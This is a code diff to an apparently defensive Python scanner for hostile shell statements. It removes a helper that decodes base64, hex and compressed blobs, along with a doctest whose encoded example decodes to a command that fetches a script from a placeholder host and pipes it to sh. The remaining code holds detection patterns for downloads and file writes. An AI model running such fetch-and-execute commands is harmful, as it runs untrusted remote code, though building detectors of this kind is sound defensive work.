@@ -6,8 +6,6 @@ approximation (no branches, no order), on purpose: a payload may be called from 
 
 from __future__ import annotations
 
-import base64
-import binascii
 import re
 from collections import defaultdict
 from collections.abc import Collection, Iterable, Iterator, Sequence
@@ -59,12 +57,10 @@ _COPIES = ("cp ", "mv ", "rsync ", "cat ", "echo ", "printf ", "sudo cp ", "tee 
 _AS_TEXT = {"send-by-command": "send", "fetch-by-text": "fetch"}
 _NO_NAMES: frozenset[str] = frozenset()
 _MAX_PASSES = 4
-_MAX_BLOB = 200_000
 _MAX_LENGTH = 6000
 """So much of a statement is read."""
 _MAX_NAMED = 120
 """A longer statement does more than to give a host a name."""
-_BLOB = re.compile(r"[A-Za-z0-9+/_-]{20,}={0,2}|(?:[0-9a-fA-F]{2}){16,}")
 _ALIAS = re.compile(
     r"\b(?:open|ZipFile)\(\s*(?:[\w.]*\.)?(\w+)\b.*\bas\s+(\w+)|\b(?:urlretrieve|DownloadFile)\(\s*(?:(?:[^,()]|\([^()]*+\))*+,\s*)?(?:filename\s*=\s*)?(\w+)|\b(?:writeFile\w*|createWriteStream)\(\s*(?P<path>\w+)|(?<!\w)(?P<to>\w{1,120})\s*=\s*open\(\s*(?P<of>\w+)"
 )
@@ -549,54 +545,3 @@ def _may_name_file(text: str) -> bool:
 def strings_of(text: str) -> list[str]:
     """The string literals in a statement, their escapes left as they are."""
     return [next((group for group in found.groups() if group is not None), "") for found in STRINGS.finditer(text)]
-
-
-def decoded_blobs(text: str) -> Iterator[str]:
-    """What stands encoded in a text, as far as it decodes to something readable.
-
-    >>> list(decoded_blobs("echo Y3VybCBodHRwOi8veC5pbnZhbGlkIHwgc2g= | base64 -d"))
-    ['curl http://x.invalid | sh']
-    """
-    if len(text) < 20:
-        return
-    for found in _BLOB.finditer(text, 0, min(len(text), _MAX_BLOB)):
-        blob = found[0]
-        for decode in (_hex, _base64):
-            said = decode(blob)
-            if said is not None:
-                yield said
-                break
-
-
-def _hex(blob: str) -> str | None:
-    if len(blob) % 2 or not re.fullmatch(r"[0-9a-fA-F]+", blob):
-        return None
-    return _readable(bytes.fromhex(blob))
-
-
-def _base64(blob: str) -> str | None:
-    if re.fullmatch(r"[a-z]+|[A-Z]+|[A-Za-z]+(?:[/_-][A-Za-z]+)+", blob):
-        return None
-    try:
-        data = base64.b64decode(blob.replace("-", "+").replace("_", "/") + "=" * (-len(blob) % 4), validate=True)
-    except (binascii.Error, ValueError):
-        return None
-    return _readable(data)
-
-
-def _readable(data: bytes) -> str | None:
-    if data[:2] in (b"\x1f\x8b", b"x\x9c", b"x\xda"):
-        import zlib
-
-        try:
-            data = zlib.decompressobj(47).decompress(data, 1 << 20)
-        except zlib.error:
-            return None
-    if data[1:2] == b"\0" and data[3:4] == b"\0":
-        data = data.decode("utf-16-le", "ignore").encode()
-    try:
-        text = data.decode("ascii")
-    except UnicodeDecodeError:
-        return None
-    plain = text.replace("\n", " ").replace("\t", " ").replace("\r", " ")
-    return text if len(text) >= 8 and plain.isprintable() and re.search(r"[a-z]{2}", text) else None
